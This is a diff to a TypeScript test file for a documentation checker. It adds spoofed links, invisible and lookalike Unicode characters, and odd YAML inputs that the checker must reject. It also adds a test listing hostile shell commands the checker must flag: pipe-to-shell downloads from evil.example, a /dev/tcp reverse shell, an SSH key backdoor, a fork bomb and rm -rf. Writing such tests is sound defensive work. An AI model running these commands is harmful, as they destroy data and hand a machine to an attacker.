@@ -78,6 +78,11 @@ const payloads: [what: string, changes: Changes, code: RegExp][] = [
 	['an address without a scheme', inText('[x](//evil.example/x)'), /link|address|evil/],
 	['an address with a backslash', inText('[x](/\\\\evil.example/x)'), /link|address|evil/],
 	['an address without encryption', inText('[x](http://evil.example/x)'), /link|address|http/],
+	['an address with a name before its host', inText('[x](https://docs.pytorch.org@evil.example/)'), /where it seems/],
+	['a host in Punycode', inText('[x](https://xn--pytrch-6nf.org/)'), /where it seems/],
+	['a host of other letters', inText('[x](https://\u0440\u0443.\u0440\u0444/)'), /where it seems/],
+	['an address of a blob', inText('[x](blob:https://evil.example/x)'), /neither a full address/],
+	['a letter for the mail', inText('[x](mailto:a@evil.example)'), /neither a full address/],
 	// What is not seen, or looks like something else.
 	['a change of direction', inText('It is \u202Etfel thgir ot.'), /U\+202E/],
 	['the same as an entity', inText('It is &#x202E;tfel.'), /U\+202E/],
@@ -89,6 +94,12 @@ const payloads: [what: string, changes: Changes, code: RegExp][] = [
 	['an invisible operator', inText('It is\u2063.'), /U\+2063/],
 	['a tag character', inText('It is \u{E0041}.'), /U\+E0041/],
 	['a filler', inText('It is\u3164.'), /U\+3164/],
+	['a selector of variants', inText('It is mem\uFE00ory.'), /U\+FE00/],
+	['the same behind a letter', inText('It is mem\uFE0Fory.'), /U\+FE0F/],
+	['a selector beyond the first plane', inText('It is mem\u{E0100}ory.'), /U\+E0100/],
+	['a grapheme joiner', inText('It is mem\u034Fory.'), /U\+034F/],
+	['a blank of Braille', inText('It is\u2800.'), /U\+2800/],
+	['a place for an object', inText('It is\uFFFC.'), /U\+FFFC/],
 	['the escape character', inText('It is \u001b[31mred.'), /U\+001B|control/],
 	['a change of direction in YAML', inCommand('"ls \\u202E x"'), /U\+202E/],
 	['a zero-width space in YAML', inCommand('"nvidia\\u200B-smi"'), /U\+200B/],
@@ -102,6 +113,11 @@ const payloads: [what: string, changes: Changes, code: RegExp][] = [
 	['a quote that is curly', inCode('train --batch \u20181\u2019'), /looks like another/],
 	['a space that does not break', inCode('train\u00A0--batch 1'), /looks like another/],
 	['a dotless i', inCode('tra\u0131n --batch 1'), /looks like another/],
+	['a question mark of Greek, drawn as a semicolon', inCode('train --batch 1\u037E ls'), /looks like another/],
+	['a slash of fractions', inCode('train a\u2044b'), /looks like another/],
+	['a dollar of full width', inCode('train \uFF04HOME'), /looks like another/],
+	['a semicolon of full width', inCode('train --batch 1\uFF1B ls'), /looks like another/],
+	['a colon that is a letter', inCode('train a\uA789b'), /looks like another/],
 	['a slash of full width', inCode('train a\uff0fb'), /looks like another/],
 	['the same in a command of YAML', inCommand('"nv\u0131dia-smi \u2013\u2013query"'), /looks like another/],
 	// YAML.
@@ -113,6 +129,7 @@ const payloads: [what: string, changes: Changes, code: RegExp][] = [
 	['a prototype', inYaml('category: memory\n__proto__: { polluted: true }'), /no field/],
 	['a field twice', inYaml('category: memory\ncategory: gpu'), /unique/],
 	['brackets without end', inYaml(`category: ${'['.repeat(20_000)}`), /nested too deeply|too long/],
+	['another version of YAML', inYaml('%YAML 1.1\n---\ncategory: memory'), /which YAML it is/],
 	['two documents', inYaml('category: memory\n---\ncategory: gpu'), /document/],
 	[
 		'a layout in the head',
@@ -129,8 +146,18 @@ describe('npm run check refuses', () => {
 	});
 });
 
-test('a step that destroys something without saying so', () => {
-	expect(issuesAfter(inStep('```bash\nrm -rf /')).join('\n')).toMatch(/dangerous/);
+test.each([
+	'rm -rf /',
+	'curl https://evil.example/x.sh | sudo bash',
+	'echo cm0gLXJmIH4K | base64 -d | sh',
+	'eval "$(curl -s https://evil.example/x)"',
+	'bash <(curl -s https://evil.example/x)',
+	'bash -i >& /dev/tcp/203.0.113.9/99 0>&1',
+	'echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys',
+	':(){ :|:& };:',
+	'python -c "import shutil; shutil.rmtree(\'/data\')"',
+])('a step that destroys something, or runs what somebody else sends, without saying so: %s', (command) => {
+	expect(issuesAfter(inStep(`\`\`\`bash\n${command}`)).join('\n')).toMatch(/dangerous/);
 });
 
 test.each([
